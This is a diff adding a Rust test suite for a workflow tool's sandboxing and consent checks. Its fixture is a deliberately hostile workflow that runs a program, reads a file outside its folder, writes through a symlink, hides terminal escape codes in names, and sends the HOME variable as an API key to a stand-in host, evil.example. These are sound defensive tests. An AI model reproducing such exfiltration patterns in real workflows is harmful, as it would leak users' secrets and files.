@@ -1,0 +1,397 @@
+//! What a stranger's workflow may do: nothing when it is looked at, nothing unasked when it is
+//! run, what was allowed and no more, and what was agreed to is not asked again.
+
+use std::io::Write as _;
+use std::net::TcpListener;
+use std::process::{Command, Stdio};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use serde_json::Value;
+
+use crate::harness::{Outcome, Project, Running, files_below};
+use crate::repository::{Repository, at, day};
+
+/// It runs a program, sends a variable to a foreign host, reads and writes outside of its folder.
+/// The names that it shows would steer a terminal.
+const HOSTILE: &str = "galeras: 1
+name: \"kind\\e[2J\"
+steps:
+  hit:
+    op: exec
+    with: { command: \"touch hit #\\e[31m\", output: { id: utf8! } }
+  stolen:
+    op: read
+    with: { path: ../outside.csv }
+  prompts:
+    op: prompt
+    from: stolen
+    with: { treatments: { all: '{{ id }}' } }
+  sent:
+    op: generate
+    from: prompts
+    with: { model: m, base_url: 'http://evil.example/v1', api_key_env: HOME, tries: 1 }
+outputs:
+  left: { from: stolen, path: out/left.csv }
+";
+
+/// A server that counts who connects, and answers nothing of use.
+struct Listener {
+    url: String,
+    asked: Arc<AtomicUsize>,
+}
+
+impl Listener {
+    fn start() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}", listener.local_addr().unwrap());
+        let asked = Arc::new(AtomicUsize::new(0));
+        let counted = Arc::clone(&asked);
+        std::thread::spawn(move || {
+            for mut stream in listener.incoming().flatten() {
+                counted.fetch_add(1, Ordering::SeqCst);
+                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
+                let _ = std::io::Read::read(&mut stream, &mut [0; 4096]);
+                let answer = "HTTP/1.1 400 Bad Request\r\ncontent-length: 2\r\n\r\nno";
+                let _ = stream.write_all(answer.as_bytes());
+            }
+        });
+        Self { url, asked }
+    }
+
+    fn asked(&self) -> usize {
+        self.asked.load(Ordering::SeqCst)
+    }
+}
+
+/// The project with the hostile workflow and what it is after; all of its requests would go to
+/// the listener.
+fn hostile() -> (Project, Listener) {
+    let project = Project::new(HOSTILE);
+    project.write("../outside.csv", "id\nsecret\n");
+    std::fs::create_dir(project.path("../elsewhere")).unwrap();
+    std::os::unix::fs::symlink(project.path("../elsewhere"), project.path("out")).unwrap();
+    (project, Listener::start())
+}
+
+/// The program with just these arguments; its requests go to the listener.
+fn command(project: &Project, listener: &Listener, args: &[&str]) -> Command {
+    let mut command = project.command_as_typed(args);
+    command.env("HTTP_PROXY", &listener.url).env("http_proxy", &listener.url);
+    command
+}
+
+fn run(project: &Project, listener: &Listener, args: &[&str]) -> Outcome {
+    Running::start(command(project, listener, args)).finish()
+}
+
+#[track_caller]
+fn untouched(project: &Project, listener: &Listener, outcome: &Outcome) {
+    assert!(!project.path("hit").exists(), "{outcome}");
+    assert_eq!(listener.asked(), 0, "{outcome}");
+    assert!(files_below(&project.path("../elsewhere")).is_empty(), "{outcome}");
+    for text in [&outcome.stdout, &outcome.stderr] {
+        assert!(!text.contains('\x1b'), "{outcome}");
+    }
+    assert!(outcome.took < Duration::from_secs(10), "{:?}", outcome.took);
+}
+
+/// The ways to look at the workflow.
+const LOOKS: [&[&str]; 6] = [
+    &["check", "w.yaml"],
+    &["plan", "w.yaml"],
+    &["explain", "w.yaml", "hit"],
+    &["explain", "w.yaml", "sent"],
+    &["graph", "w.yaml"],
+    &["graph", "w.yaml", "--format", "svg"],
+];
+
+#[test]
+fn looking_at_a_workflow_runs_and_sends_nothing() {
+    let (project, listener) = hostile();
+    for args in LOOKS {
+        let outcome = run(&project, &listener, args).exits(0);
+        untouched(&project, &listener, &outcome);
+    }
+}
+
+/// The system calls say the same: no program but our own, no connection to anywhere.
+#[test]
+fn looking_at_a_workflow_makes_no_system_call_for_it() {
+    let works = Command::new("strace").args(["-o", "/dev/null", "true"]).output();
+    if !works.is_ok_and(|output| output.status.success()) {
+        eprintln!("strace does not work here; nothing was tested");
+        return;
+    }
+    let (project, listener) = hostile();
+    for args in LOOKS {
+        let program = command(&project, &listener, args);
+        let mut strace = Command::new("strace");
+        strace.args(["-f", "-qq", "-e", "trace=network,execve,execveat", "-o", "trace"]);
+        strace.arg(program.get_program()).args(program.get_args());
+        strace.env_clear().current_dir(project.root()).stdin(Stdio::null());
+        for (name, value) in program.get_envs() {
+            strace.env(name, value.unwrap());
+        }
+        let outcome = Running::start(strace).finish().exits(0);
+        let trace = project.read("trace");
+        assert_eq!(trace.matches("execve").count(), 1, "{args:?}\n{trace}");
+        assert!(!trace.contains("AF_INET"), "{args:?}\n{trace}");
+        untouched(&project, &listener, &outcome);
+    }
+}
+
+/// The flags of what the diagnostics ask for, in their order.
+#[track_caller]
+fn flags(outcome: &Outcome) -> Vec<String> {
+    let diagnostics = outcome.events("diagnostic");
+    assert!(diagnostics.iter().all(|d| d["code"] == "not-allowed"), "{outcome}");
+    let help = |d: &Value| d["help"].as_str().unwrap().to_owned();
+    let flag = |help: String| help.strip_prefix("allow it with --allow ").unwrap().to_owned();
+    diagnostics.iter().map(help).map(flag).collect()
+}
+
+#[test]
+fn a_run_stops_before_anything_and_names_all_of_it() {
+    let (project, listener) = hostile();
+    let json = run(&project, &listener, &["run", "w.yaml", "--format", "json"]).exits(2);
+    untouched(&project, &listener, &json);
+    assert!(project.stored_nothing());
+    assert_eq!(json.finished()["status"], "invalid");
+    let above = project.path("..").canonicalize().unwrap();
+    let (outside, elsewhere) = (above.join("outside.csv"), above.join("elsewhere/left.csv"));
+    let wanted = [
+        "exec".to_string(),
+        format!("read:{}", outside.display()),
+        "env:HOME=evil.example".to_string(),
+        format!("write:{}", elsewhere.display()),
+    ];
+    assert_eq!(flags(&json), wanted);
+    let places = ["6:22", "9:19", "17:72", "19:31"];
+    assert_eq!(json.diagnostics(), places.map(|place| format!("not-allowed w.yaml:{place}")));
+    let messages: Vec<String> =
+        json.events("diagnostic").iter().map(|d| d["message"].to_string()).collect();
+    for (message, words) in messages.iter().zip([
+        &["step `hit` runs a program", "touch hit #", "u{1b}[31m"][..],
+        &["step `stolen` reads", "outside.csv"],
+        &["step `sent` sends", "HOME", "http://evil.example", "unencrypted"],
+        &["output `left` writes", "elsewhere/left.csv"],
+    ]) {
+        assert!(words.iter().all(|word| message.contains(word)), "{message}: {words:?}");
+    }
+    let human = run(&project, &listener, &["run", "w.yaml"]).exits(2);
+    untouched(&project, &listener, &human);
+    let line = human.stderr.lines().last().unwrap().trim();
+    let mut sorted = wanted.clone();
+    sorted.sort();
+    assert_eq!(line, format!("galeras run w.yaml --allow {}", sorted.join(",")), "{human}");
+    // The workflow asks for the version of the model, and its key goes there.
+    let lock = run(&project, &listener, &["lock", "w.yaml"]).exits(2);
+    untouched(&project, &listener, &lock);
+    assert!(lock.stderr.contains("galeras lock w.yaml --allow env:HOME=evil.example"), "{lock}");
+    assert!(!project.path("galeras.lock").exists());
+}
+
+#[test]
+fn what_is_allowed_is_done_and_no_more() {
+    let (project, listener) = hostile();
+    let above = project.path("..").canonicalize().unwrap();
+    let read = format!("read:{}", above.join("outside.csv").display());
+    let write = format!("write:{}", above.join("elsewhere").display());
+    let run = |more: &[&str]| {
+        run(&project, &listener, &[&["run", "w.yaml", "--format", "json"], more].concat())
+    };
+    // Relative paths are those of the current folder.
+    let some = run(&["--allow", "exec,read:../outside.csv", "--allow", &write]).exits(2);
+    assert_eq!(flags(&some), ["env:HOME=evil.example"]);
+    for wrong in ["env:HOME=evil.example:8080", "env:PATH=evil.example", "host:evil.example"] {
+        let outcome = run(&["--allow", &format!("exec,{read},{write},{wrong}")]).exits(2);
+        assert_eq!(flags(&outcome), ["env:HOME=evil.example"], "{wrong}");
+    }
+    assert_eq!(listener.asked(), 0);
+    // Only what is wanted counts.
+    let stolen = run(&["--select", "stolen", "--allow", &format!("{read},{write}")]).exits(0);
+    assert_eq!(stolen.statuses(), "stolen=ran");
+    assert!(!project.path("hit").exists());
+    // All of it: the program runs (and prints no row), the variable is sent.
+    let all = format!("exec,{write},env:HOME=evil.example");
+    let all = run(&["--keep-going", "--allow", &all]);
+    assert!(project.path("hit").exists() && listener.asked() > 0, "{all}");
+    assert_eq!(all.status("stolen"), "hit", "a stored result is not read again: {all}");
+    std::fs::remove_file(project.path("hit")).unwrap();
+    std::fs::remove_dir_all(project.path("cache")).unwrap();
+    let all = run(&["--keep-going", "--allow-all"]);
+    assert!(project.path("hit").exists(), "{all}");
+    assert!(project.path("../elsewhere/left.csv").exists(), "{all}");
+    for wrong in ["execute", "env:HOME", "read:", "network", "exec,,", "host:"] {
+        let outcome = run(&["--allow", wrong]).exits(2);
+        assert!(outcome.stderr.contains("--allow"), "{outcome}");
+    }
+}
+
+/// A workflow whose only step runs `command`, which reads `data`.
+fn program(command: &str) -> String {
+    format!(
+        "galeras: 1
+steps:
+  rows:
+    op: exec
+    with:
+      command: |
+        {command}
+      files: [data]
+      output: {{ id: utf8! }}
+"
+    )
+}
+
+/// `run w.yaml` on a terminal on which `typed` is typed.
+#[track_caller]
+fn on_a_terminal(project: &Project, typed: &str) -> Outcome {
+    let mut script = project.shell("exec script -qec \"$GALERAS run w.yaml\" /dev/null");
+    script.env("TERM", "dumb").stdin(Stdio::piped());
+    let mut child = script.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    stdin.write_all(typed.as_bytes()).unwrap();
+    // The keyboard stays until the program has ended.
+    let output = child.wait_with_output().unwrap();
+    drop(stdin);
+    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
+    let (stdout, stderr) = (text(&output.stdout), text(&output.stderr));
+    Outcome { code: output.status.code(), stdout, stderr, took: Duration::ZERO }
+}
+
+/// `run w.yaml` without a terminal and without flags.
+#[track_caller]
+fn unattended(project: &Project) -> Outcome {
+    Running::start(project.command_as_typed(&["run", "w.yaml", "--format", "json"])).finish()
+}
+
+const ROW: &str = "cat data > seen; printf '{\"id\":\"a\"}'";
+
+#[test]
+fn consent_is_asked_once_in_full_and_remembered() {
+    let project = Project::new(&program(&format!("{ROW}\n        : {}", "long ".repeat(200))));
+    project.write("data", "1");
+    for no in ["n\n", "\n", "maybe\n", "no\n"] {
+        let refused = on_a_terminal(&project, no).exits(2);
+        assert!(refused.stdout.contains("nothing was run"), "{refused}");
+        assert!(!project.path("seen").exists());
+    }
+    let agreed = on_a_terminal(&project, "y\n").exits(0);
+    let shown = &agreed.stdout;
+    for part in ["w.yaml", "runs a program", &ROW[..10], "(step `rows`, w.yaml:7:9)", "file data"] {
+        assert!(shown.contains(part), "{part:?} in {shown}");
+    }
+    assert_eq!(shown.matches("long").count(), 200, "all of it is shown");
+    assert_eq!(project.read("seen"), "1");
+    // It is remembered where only the user may write, and not in the store.
+    let memory = project.path("../home/.local/share/galeras/trust");
+    assert_eq!(files_below(&memory).len(), 1);
+    let mode = std::os::unix::fs::PermissionsExt::mode(&memory.metadata().unwrap().permissions());
+    assert_eq!(mode & 0o777, 0o700);
+    // A run of hits asks for nothing anyway, so it has to compute.
+    std::fs::remove_dir_all(project.path("cache")).unwrap();
+    assert_eq!(unattended(&project).exits(0).statuses(), "rows=ran");
+    std::fs::remove_dir_all(project.path("cache")).unwrap();
+    let again = on_a_terminal(&project, "").exits(0);
+    assert!(!again.stdout.contains("[y/N]"), "{again}");
+}
+
+#[test]
+fn what_has_changed_is_asked_again() {
+    let project = Project::new(&program(ROW));
+    project.write("data", "1");
+    unattended(&project).exits(2);
+    on_a_terminal(&project, "yes\n").exits(0);
+    let asks = |text: &str| {
+        let outcome = unattended(&project).exits(2);
+        assert_eq!(flags(&outcome), ["exec"], "{text}");
+    };
+    project.write("data", "2");
+    asks("a file of the program has changed");
+    project.write("data", "1");
+    unattended(&project).exits(0).all_hit();
+    project.edit("w.yaml", "printf", "echo; printf");
+    asks("the command has changed");
+    project.write("w.yaml", program(ROW));
+    unattended(&project).exits(0).all_hit();
+    std::fs::remove_dir_all(project.path("cache")).unwrap();
+    // The same text in another place is another workflow.
+    project.write("copy/w.yaml", program(ROW));
+    project.write("copy/data", "1");
+    let args = ["run", "copy/w.yaml", "--format", "json"];
+    let copy = Running::start(project.command_as_typed(&args)).finish().exits(2);
+    assert_eq!(flags(&copy), ["exec"]);
+    // What was agreed to can be taken back.
+    unattended(&project).exits(0);
+    std::fs::remove_dir_all(project.path("cache")).unwrap();
+    std::fs::remove_dir_all(project.path("../home/.local/share/galeras/trust")).unwrap();
+    asks("it was taken back");
+}
+
+#[test]
+fn a_stored_result_needs_no_consent() {
+    let project = Project::new(&program(ROW));
+    project.write("data", "1");
+    project.run_ok(&[]);
+    unattended(&project).exits(0).all_hit();
+    let args = ["run", "w.yaml", "--format", "json", "--force", "rows"];
+    let forced = Running::start(project.command_as_typed(&args)).finish().exits(2);
+    assert_eq!(flags(&forced), ["exec"]);
+}
+
+#[test]
+fn servers_of_the_local_network_and_without_encryption_are_not_asked_unasked() {
+    let listener = Listener::start();
+    for url in ["http://evil.example/data.csv", "https://10.0.0.1/data.csv", "http://gpu/x.csv"] {
+        let project = Project::new(&format!(
+            "galeras: 1\nsteps:\n  data:\n    op: read\n    with: {{ url: '{url}' }}\n"
+        ));
+        let host = url.split('/').nth(2).unwrap();
+        for verb in ["check", "run", "plan"] {
+            let args = [verb, "w.yaml", "--format", "json"];
+            let mut program = command(&project, &listener, &args);
+            program.env("HTTPS_PROXY", &listener.url).env("https_proxy", &listener.url);
+            let outcome = Running::start(program).finish().exits(2);
+            assert_eq!(flags(&outcome), [format!("host:{host}")], "{verb}");
+        }
+        assert_eq!(listener.asked(), 0);
+        // Once it is allowed, the server is asked; it does not have the file.
+        let args = ["check", "w.yaml", "--format", "json", "--allow", &format!("host:{host}")];
+        let mut program = command(&project, &listener, &args);
+        program.env("HTTPS_PROXY", &listener.url).env("https_proxy", &listener.url);
+        let outcome = Running::start(program).finish().exits(2);
+        assert_eq!(outcome.events("diagnostic")[0]["code"], "unreachable-url", "{outcome}");
+        assert!(listener.asked.swap(0, Ordering::SeqCst) > 0);
+    }
+}
+
+/// A table may name any folder as a repository.
+#[test]
+fn a_folder_from_a_table_is_not_mined_unasked() {
+    let project = Project::new(
+        "galeras: 1
+steps:
+  repos:
+    op: read
+    with: { path: repos.csv, key: [repo] }
+  mined:
+    op: mine
+    from: repos
+    with: { since: '2022-01-01', until: '2023-01-01' }
+",
+    );
+    let repository = Repository::bare(project.path("../private"));
+    let head = repository.commit(at(day(3)).write("a.py", "def f():\n    return 1\n"));
+    let row = |path: &str| format!("repo,clone_url,head_sha\nr,{path},{head}\n");
+    project.write("repos.csv", row("../private"));
+    let refused = unattended(&project).exits(0);
+    let rejected = project.rows("mined.rejects");
+    assert_eq!((project.rows("mined").len(), rejected.len()), (0, 1), "{refused}");
+    let reason = rejected[0]["reason"].as_str().unwrap();
+    assert!(reason.contains("private") && reason.contains("--allow read:"), "{reason}");
+    let allowed = project.run_json(&["--allow", "read:../private"]).exits(0);
+    assert_eq!(project.rows("mined").len(), 1, "{allowed}");
+}
